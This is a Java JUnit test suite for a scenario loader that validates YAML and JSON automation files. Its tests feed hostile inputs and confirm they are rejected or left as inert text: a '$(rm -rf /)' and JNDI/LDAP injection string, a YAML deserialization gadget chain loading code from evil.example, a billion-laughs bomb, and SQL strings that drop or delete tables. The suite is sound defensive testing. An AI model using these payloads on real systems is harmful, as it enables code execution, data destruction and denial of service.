package dev.orchestrator.protocol.scenario;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.orchestrator.protocol.component.FsmState;
import dev.orchestrator.protocol.component.LifecycleCommand;
import dev.orchestrator.protocol.scenario.ScenarioLoader.Loaded;
import dev.orchestrator.protocol.scenario.ScenarioLoader.Rejected;
import dev.orchestrator.protocol.scenario.ScenarioLoader.Result;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ScenarioLoaderTest {

  static String resource(String name) {
    try (InputStream in = ScenarioLoaderTest.class.getResourceAsStream("/scenarios/" + name)) {
      return new String(in.readAllBytes(), StandardCharsets.UTF_8);
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }

  static Scenario loaded(String file, String text) {
    Result r = ScenarioLoader.load(file, text);
    return assertInstanceOf(Loaded.class, r, () -> "rejected: " + r).scenario();
  }

  private static ScenarioProblem onlyProblem(String yaml) {
    Result r = ScenarioLoader.load("broken.yaml", yaml);
    Rejected rejected = assertInstanceOf(Rejected.class, r, () -> "loaded: " + r);
    assertEquals(1, rejected.problems().size(), rejected.problems()::toString);
    ScenarioProblem problem = rejected.problems().get(0);
    assertEquals("broken.yaml", problem.file());
    return problem;
  }

  private static void assertProblem(
      ScenarioProblem p, int line, int column, String path, String messagePart) {
    assertEquals(path, p.path(), p::toString);
    assertEquals(line, p.line(), p::toString);
    assertEquals(column, p.column(), p::toString);
    assertTrue(p.message().contains(messagePart), () -> p + " should say: " + messagePart);
  }

  @Test
  void designExampleLoadsUnchanged() {
    assertDesignExample(loaded("design-example.yaml", resource("design-example.yaml")));
  }

  @Test
  void designExampleInJsonLoadsToTheSameScenario() {
    Scenario json = loaded("design-example.json", resource("design-example.json"));
    assertDesignExample(json);
    assertEquals(loaded("design-example.yaml", resource("design-example.yaml")), json);
  }

  @Test
  void aScenarioWrittenAsJsonReadsBackEqual() throws Exception {
    Scenario scenario = loaded("design-example.yaml", resource("design-example.yaml"));
    String json = new ObjectMapper().writeValueAsString(scenario);
    assertTrue(json.contains("\"cooldown\":\"5m\""), json);
    assertTrue(json.contains("\"on_failure\":[{\"type\":\"send_email\""), json);
    assertEquals(scenario, loaded("again.json", json));
  }

  static void assertDesignExample(Scenario s) {
    assertEquals("shutdown_on_power_loss", s.name());
    assertNull(s.description());
    assertEquals(10, s.priority());
    assertEquals(
        new Trigger("event", new Trigger.Event("UPS_POWER_LOST", null), null, null), s.trigger());
    assertEquals(Duration.ofMinutes(5), s.cooldown());
    assertEquals(1, s.maxConcurrentExecutions());
    assertNull(s.maxExecutions());
    Condition.Any any = assertInstanceOf(Condition.Any.class, s.conditions());
    assertEquals(
        new Condition.Component(
            new Condition.ComponentState("ups", List.of(FsmState.FAULT), Duration.ofSeconds(10))),
        any.any().get(0));
    assertEquals(
        new Condition.Time(
            new Condition.TimeWindow(null, List.of("22:00", "06:00"), "Europe/Warsaw")),
        any.any().get(1));
    assertEquals(3, s.actions().size());
    assertEquals(
        new Action.LogEvent("warning", "power lost at {{ trigger.source }}", null, null, List.of()),
        s.actions().get(0));
    assertEquals(
        new Action.SendCommand(
            "@all", LifecycleCommand.CMD_SOFT_STOP, "reverse-dependencies", null, null, List.of()),
        s.actions().get(1));
    Action.WaitForState wait = assertInstanceOf(Action.WaitForState.class, s.actions().get(2));
    assertEquals("@all", wait.target());
    assertEquals(FsmState.INITIALIZED, wait.state());
    assertEquals(Duration.ofSeconds(60), wait.timeout());
    assertEquals(
        List.of(
            new Action.SendEmail(
                List.of("ops@example.com"),
                "shutdown stuck",
                "{{ failure.message }}",
                null,
                null,
                List.of())),
        wait.onFailure());
    assertEquals("wait_for_state", wait.typeName());
  }

  @Test
  void defaultsApplyWhenFieldsAreLeftOut() {
    Scenario s =
        loaded(
            "minimal.yaml",
            """
            name: minimal
            trigger: { type: manual }
            actions:
              - { type: log_event, message: hi }
            """);
    assertEquals(Scenario.DEFAULT_PRIORITY, s.priority());
    assertEquals(Duration.ZERO, s.cooldown());
    assertEquals(1, s.maxConcurrentExecutions());
    assertNull(s.conditions());
  }

  @Test
  void everyActionTypeAndConditionLeafLoads() {
    Scenario s = loaded("every-kind.yaml", resource("every-kind.yaml"));
    assertEquals(9, s.actions().size());
    assertEquals(3, s.maxExecutions());
    Condition.All all = assertInstanceOf(Condition.All.class, s.conditions());
    assertEquals(6, all.all().size());
    assertInstanceOf(Condition.All.class, all.all().get(5), "and reads as all");
    assertInstanceOf(Condition.Any.class, all.all().get(1), "or reads as any");
    Action.EnqueueCommand enqueue =
        assertInstanceOf(Action.EnqueueCommand.class, s.actions().get(4));
    assertEquals(3, enqueue.input().get("keep").asInt());
    assertTrue(enqueue.await());
  }

  @Test
  void unquotedTimesAndYamlOneOneWordsStayText() {
    // YAML 1.1 would read 22:00 as the number 1320 and "no" as false; Jackson's YAML reader does
    // neither for these, and the validator sees what the user wrote.
    Scenario s =
        loaded(
            "plain.yaml",
            """
            name: plain
            trigger: { type: automatic }
            conditions:
              time: { days: [sat, sun], between: [22:00, 06:00] }
            actions:
              - { type: log_event, message: no }
            """);
    assertEquals(List.of("22:00", "06:00"), ((Condition.Time) s.conditions()).time().between());
    assertEquals("no", ((Action.LogEvent) s.actions().get(0)).message());
  }

  @Test
  void hostileTextInTemplatesStaysText() {
    String hostile = "at {{ trigger.source }} $(rm -rf /) ${jndi:ldap://evil/x} %s \\\\ <script>";
    Scenario s =
        loaded(
            "hostile.yaml",
            "name: hostile\ntrigger: { type: manual }\nactions:\n"
                + "  - type: log_event\n    message: \""
                + hostile
                + "\"\n");
    String message = ((Action.LogEvent) s.actions().get(0)).message();
    assertEquals(hostile.replace("\\\\", "\\"), message);
    String rendered =
        Template.render(
            message, path -> path.equals("trigger.source") ? "{{ run.id }} $1 ${env:HOME}" : "X");
    assertEquals(
        "at {{ run.id }} $1 ${env:HOME} $(rm -rf /) ${jndi:ldap://evil/x} %s \\ <script>",
        rendered);
  }

  // ---- broken files: one problem each, at the offending node ----

  @Test
  void unknownFieldAtLine7() {
    ScenarioProblem p =
        onlyProblem(
            """
            name: fans
            description: cool down
            priority: 5
            trigger:
              type: manual
            cooldown: 1m
            colour: red
            actions:
              - { type: log_event, message: hi }
            """);
    assertProblem(p, 7, 1, "colour", "unknown field 'colour'");
    assertTrue(
        p.message()
            .endsWith(
                "known fields here: actions, conditions, cooldown, description,"
                    + " max_concurrent_executions, max_executions, name, priority, trigger"),
        p::toString);
  }

  @Test
  void unknownFieldInANestedAction() {
    ScenarioProblem p =
        onlyProblem(
            """
            name: fans
            trigger: { type: manual }
            actions:
              - type: wait_for_state
                target: fan-1
                state: RUN
                timeout: 10s
                on_failure:
                  - { type: log_event, mesage: stuck }
            """);
    assertProblem(p, 9, 28, "actions[0].on_failure[0].mesage", "unknown field 'mesage'");
    assertTrue(p.message().contains("message"), p::toString);
  }

  @Test
  void badDuration() {
    assertProblem(
        onlyProblem(
            """
            name: wait
            trigger: { type: manual }
            actions:
              - type: wait_for_state
                target: oven-1
                state: RUN
                timeout: abc
            """),
        7,
        14,
        "actions[0].timeout",
        "'abc' is not a duration");
  }

  @Test
  void durationWithoutUnit() {
    assertProblem(
        onlyProblem(
            "name: c\ntrigger: { type: manual }\ncooldown: 5\nactions: [{type: log_event,"
                + " message: x}]\n"),
        3,
        11,
        "cooldown",
        "'5' is not a duration");
  }

  @Test
  void unknownActionType() {
    assertProblem(
        onlyProblem(
            """
            name: x
            trigger: { type: manual }
            actions:
              - { type: log_event, message: ok }
              - type: reboot_everything
                target: "@all"
            """),
        5,
        11,
        "actions[1].type",
        "unknown action type 'reboot_everything'; use one of send_command, wait_for_state");
  }

  @Test
  void unknownLifecycleCommand() {
    assertProblem(
        onlyProblem(
            """
            name: x
            trigger: { type: manual }
            actions:
              - { type: send_command, target: "@all", command: CMD_FLY }
            """),
        4,
        52,
        "actions[0].command",
        "'CMD_FLY' is not a LifecycleCommand; use one of CMD_INITIALIZED, CMD_RUN");
  }

  @Test
  void unknownFsmStateInACondition() {
    assertProblem(
        onlyProblem(
            """
            name: x
            trigger: { type: automatic }
            conditions:
              any:
                - component: { id: ups, state: [FAULT, BROKEN] }
            actions:
              - { type: log_event, message: ok }
            """),
        5,
        44,
        "conditions.any[0].component.state[1]",
        "'BROKEN' is not a FsmState");
  }

  @Test
  void badCron() {
    assertProblem(
        onlyProblem(
            """
            name: x
            trigger: { type: schedule, cron: "61 * * * *" }
            actions:
              - { type: log_event, message: ok }
            """),
        2,
        34,
        "trigger.cron",
        "minute 61 is out of range");
  }

  @Test
  void badTimezone() {
    assertProblem(
        onlyProblem(
            """
            name: x
            trigger:
              type: schedule
              cron: "0 3 * * *"
              timezone: Mars/Olympus
            actions:
              - { type: log_event, message: ok }
            """),
        5,
        13,
        "trigger.timezone",
        "'Mars/Olympus' is not a time zone");
  }

  @Test
  void emptyActions() {
    assertProblem(
        onlyProblem("name: x\ntrigger: { type: manual }\nactions: []\n"),
        3,
        10,
        "actions",
        "actions must list at least one action");
  }

  @Test
  void missingTriggerPointsAtTheDocument() {
    assertProblem(
        onlyProblem("name: x\nactions: [{ type: log_event, message: ok }]\n"),
        1,
        1,
        "trigger",
        "trigger is required");
  }

  @Test
  void missingFieldNamesItAndPointsAtItsParent() {
    assertProblem(
        onlyProblem(
            """
            name: x
            trigger: { type: manual }
            actions:
              - type: log_event
                level: info
            """),
        4,
        5,
        "actions[0].message",
        "message is required");
  }

  @Test
  void templateThatIsNotAPath() {
    assertProblem(
        onlyProblem(
            """
            name: x
            trigger: { type: manual }
            actions:
              - type: log_event
                message: "hello {{ os.exec }}"
            """),
        5,
        14,
        "actions[0].message",
        "'{{ os.exec }}' is not a template placeholder");
  }

  @Test
  void templateExpressionIsRefused() {
    assertProblem(
        onlyProblem(
            """
            name: x
            trigger: { type: manual }
            actions:
              - { type: send_email, to: [a@b.example], subject: "{{ trigger.source | upper }}" }
            """),
        4,
        53,
        "actions[0].subject",
        "is not a template placeholder");
  }

  @Test
  void writeQuery() {
    assertProblem(
        onlyProblem(
            """
            name: x
            trigger: { type: automatic }
            conditions:
              database:
                datasource: plant
                query: DELETE FROM alarms
            actions:
              - { type: log_event, message: ok }
            """),
        6,
        12,
        "conditions.database.query",
        "starting with SELECT or WITH");
  }

  @Test
  void writeHiddenInAReadingQuery() {
    assertProblem(
        onlyProblem(
            """
            name: x
            trigger: { type: automatic }
            conditions:
              not:
                database:
                  datasource: plant
                  query: "WITH gone AS (DELETE FROM alarms RETURNING *) SELECT count(*) FROM gone"
            actions:
              - { type: log_event, message: ok }
            """),
        7,
        14,
        "conditions.not.database.query",
        "'delete' is not allowed");
    assertProblem(
        onlyProblem(
            """
            name: x
            trigger: { type: automatic }
            conditions:
              database: { datasource: plant, query: "SELECT 1; DROP TABLE alarms" }
            actions:
              - { type: log_event, message: ok }
            """),
        4,
        41,
        "conditions.database.query",
        "one statement");
  }

  @Test
  void yamlTagIsRefusedNotInstantiated() {
    assertProblem(
        onlyProblem(
            """
            name: x
            trigger: { type: manual }
            actions:
              - type: webhook
                url: !!java.net.URL http://evil.example/
            """),
        5,
        10,
        "actions[0].url",
        "YAML tags (!!java.net.URL) are not allowed");
    assertProblem(
        onlyProblem(
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                + " [\"http://evil.example/\"]]]]\n"),
        1,
        1,
        "",
        "YAML tags");
  }

  @Test
  void billionLaughsFailsFastAtTheFirstAnchor() {
    StringBuilder bomb = new StringBuilder("name: lol\n");
    bomb.append(
        "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    for (char c = 'b'; c <= 'z'; c++) {
      char prev = (char) (c - 1);
      bomb.append(c).append(": &").append(c).append(" [");
      for (int i = 0; i < 9; i++) {
        bomb.append(i == 0 ? "" : ",").append('*').append(prev);
      }
      bomb.append("]\n");
    }
    ScenarioProblem p =
        assertTimeoutPreemptively(Duration.ofSeconds(2), () -> onlyProblem(bomb.toString()));
    assertProblem(p, 2, 4, "a", "YAML anchors (&a) are not allowed");
  }

  @Test
  void aliasAloneIsRefused() {
    assertProblem(
        onlyProblem("name: x\ntrigger: { type: manual }\nactions: *list\n"),
        3,
        10,
        "actions",
        "YAML aliases (*list) are not allowed");
  }

  @Test
  void tooDeepNestingOfTheDocument() {
    String deep = "[".repeat(100) + "]".repeat(100);
    assertProblem(
        onlyProblem("name: x\nfoo: " + deep + "\n"),
        2,
        45,
        "foo" + "[0]".repeat(39),
        "nested deeper than 40 levels");
  }

  @Test
  void deepNestingNearTheSizeLimitStopsAtTheLimitNotTheStack() {
    String deep = "[".repeat(200_000);
    ScenarioProblem p = assertTimeoutPreemptively(Duration.ofSeconds(2), () -> onlyProblem(deep));
    assertProblem(p, 1, 41, "[0]".repeat(40), "nested deeper than 40 levels");
  }

  @Test
  void tooDeepNestingOfConditions() {
    StringBuilder yaml = new StringBuilder("name: x\ntrigger: { type: automatic }\nconditions:\n");
    String indent = "  ";
    for (int i = 0; i < 10; i++) {
      yaml.append(indent).append("not:\n");
      indent += "  ";
    }
    yaml.append(indent).append("component: { id: ups, state: [RUN] }\n");
    yaml.append("actions: [{ type: log_event, message: x }]\n");
    // conditions is depth 1; the ninth condition starts at line 12, under the eighth 'not:'.
    assertProblem(
        onlyProblem(yaml.toString()),
        12,
        19,
        "conditions" + ".not".repeat(8),
        "conditions are nested deeper than 8 levels");
  }

  @Test
  void tooDeepNestingOfOnFailure() {
    assertProblem(
        onlyProblem(
            """
            name: x
            trigger: { type: manual }
            actions:
              - type: log_event
                message: one
                on_failure:
                  - type: log_event
                    message: two
                    on_failure:
                      - type: log_event
                        message: three
                        on_failure:
                          - type: log_event
                            message: four
                            on_failure:
                              - { type: log_event, message: five }
            """),
        16,
        19,
        "actions[0].on_failure[0].on_failure[0].on_failure[0].on_failure",
        "on_failure is nested deeper than 3 levels");
  }

  @Test
  void oneMebibyteFileIsRefusedBeforeParsing() {
    String big = "name: x\ndescription: \"" + "a".repeat(1024 * 1024) + "\"\n";
    assertProblem(onlyProblem(big), 0, 0, "", "at most 262144");
  }

  @Test
  void duplicateKey() {
    assertProblem(
        onlyProblem("name: x\ntrigger: { type: manual }\nname: y\nactions: []\n"),
        3,
        1,
        "name",
        "'name' appears twice");
  }

  @Test
  void unknownConditionKeyListsTheKnownOnes() {
    assertProblem(
        onlyProblem(
            """
            name: x
            trigger: { type: automatic }
            conditions:
              allof:
                - time: { between: ["08:00", "09:00"] }
            actions: [{ type: log_event, message: x }]
            """),
        4,
        3,
        "conditions.allof",
        "unknown field 'allof'; known fields here: all, and, any, command, component, database");
  }

  @Test
  void unknownFieldInAConditionLeaf() {
    assertProblem(
        onlyProblem(
            """
            name: x
            trigger: { type: automatic }
            conditions:
              any:
                - time: { between: ["08:00", "09:00"] }
                - component:
                    id: ups
                    states: [FAULT]
            actions: [{ type: log_event, message: x }]
            """),
        8,
        9,
        "conditions.any[1].component.states",
        "unknown field 'states'; known fields here: for, id, state");
  }

  @Test
  void unknownFieldInJson() {
    Result r =
        ScenarioLoader.load(
            "broken.json",
            """
            {
              "name": "x",
              "trigger": { "type": "manual" },
              "actions": [
                { "type": "log_event", "message": "x", "colour": "red" }
              ]
            }
            """);
    ScenarioProblem p = assertInstanceOf(Rejected.class, r).problems().get(0);
    assertProblem(p, 5, 44, "actions[0].colour", "unknown field 'colour'");
  }

  @Test
  void twoKeysInOneCondition() {
    assertProblem(
        onlyProblem(
            """
            name: x
            trigger: { type: automatic }
            conditions:
              time: { between: ["08:00", "09:00"] }
              component: { id: ups, state: [RUN] }
            actions: [{ type: log_event, message: x }]
            """),
        5,
        3,
        "conditions.component",
        "a condition has exactly one key");
  }

  @Test
  void badTimeOfDayAndTarget() {
    Result r =
        ScenarioLoader.load(
            "two.yaml",
            """
            name: x
            trigger: { type: automatic }
            conditions:
              time: { between: ["22:00", "25:00"] }
            actions:
              - { type: send_command, target: "oven 1", command: CMD_RUN }
            """);
    List<ScenarioProblem> problems = assertInstanceOf(Rejected.class, r).problems();
    assertEquals(2, problems.size(), problems::toString);
    assertProblem(
        problems.get(0), 4, 30, "conditions.time.between[1]", "'25:00' is not a time of day");
    assertProblem(problems.get(1), 6, 35, "actions[0].target", "target 'oven 1' may contain only");
  }

  @Test
  void badScenarioName() {
    assertProblem(
        onlyProblem(
            "name: \"power loss!\"\ntrigger: { type: manual }\nactions: [{type: log_event,"
                + " message: x}]\n"),
        1,
        7,
        "name",
        "name 'power loss!' may contain only letters");
  }

  @Test
  void numbersAreNotReadFromText() {
    assertProblem(
        onlyProblem(
            "name: x\npriority: \"10\"\ntrigger: { type: manual }\nactions: [{type: log_event,"
                + " message: x}]\n"),
        2,
        11,
        "priority",
        "expected a whole number");
  }

  @Test
  void priorityOutOfRange() {
    assertProblem(
        onlyProblem(
            "name: x\npriority: 5000\ntrigger: { type: manual }\nactions: [{type: log_event,"
                + " message: x}]\n"),
        2,
        11,
        "priority",
        "priority 5000 is out of range");
  }

  @Test
  void yamlSyntaxError() {
    ScenarioProblem p = onlyProblem("name: x\ntrigger: { type: manual\nactions: []\n");
    assertEquals(3, p.line(), p::toString);
    assertTrue(p.message().startsWith("not valid syntax"), p::toString);
  }

  @Test
  void jsonSyntaxErrorHasItsLine() {
    Result r =
        ScenarioLoader.load(
            "broken.json", "{\n  \"name\": \"x\",\n  \"trigger\": { \"type\": manual }\n}\n");
    ScenarioProblem p = assertInstanceOf(Rejected.class, r).problems().get(0);
    assertEquals(3, p.line(), p::toString);
    // Where the parser noticed: the end of the bare word.
    assertEquals(30, p.column(), p::toString);
    assertEquals("trigger.type", p.path());
  }

  @Test
  void secondDocumentIsRefused() {
    assertProblem(
        onlyProblem(
            "name: x\ntrigger: { type: manual }\nactions: [{type: log_event, message: x}]\n---\n"
                + "name: y\n"),
        5,
        1,
        "",
        "one scenario per file");
  }

  @Test
  void directoryLoadsTheGoodFilesAndRejectsTheBadOnesWhole(@TempDir Path dir) throws IOException {
    Files.writeString(dir.resolve("a-design.yaml"), resource("design-example.yaml"));
    Files.writeString(
        dir.resolve("b-other.json"),
        "{\"name\": \"other\", \"trigger\": {\"type\": \"manual\"},"
            + " \"actions\": [{\"type\": \"log_event\", \"message\": \"x\"}]}");
    Files.writeString(
        dir.resolve("c-bad.yml"),
        "name: bad\ntrigger: { type: manual }\nactions:\n  - { type: log_event, message: ok }\n"
            + "  - { type: send_command, target: \"@all\", command: CMD_FLY }\n");
    Files.writeString(dir.resolve("d-same-name.yaml"), resource("design-example.yaml"));
    Files.writeString(dir.resolve("notes.txt"), "not a scenario");
    Files.write(dir.resolve("e-binary.yaml"), new byte[] {(byte) 0xff, (byte) 0xfe, 0});
    Files.writeString(dir.resolve("f-huge.yaml"), "name: x\n#" + "a".repeat(1024 * 1024));

    ScenarioLoader.DirectoryResult result = ScenarioLoader.loadDirectory(dir);

    assertEquals(
        List.of("a-design.yaml", "b-other.json"),
        result.loaded().stream().map(Loaded::file).toList());
    assertEquals(
        List.of("c-bad.yml", "d-same-name.yaml", "e-binary.yaml", "f-huge.yaml"),
        result.rejected().stream().map(Rejected::file).toList());
    ScenarioProblem bad = result.rejected().get(0).problems().get(0);
    assertTrue(
        bad.toString().startsWith("c-bad.yml:5:52: actions[1].command: 'CMD_FLY'"), bad::toString);
    assertTrue(result.rejected().get(1).problems().get(0).message().contains("already defined in"));
    assertTrue(result.rejected().get(2).problems().get(0).message().contains("not UTF-8"));
    assertTrue(result.rejected().get(3).problems().get(0).message().contains("at most 262144"));
  }
}
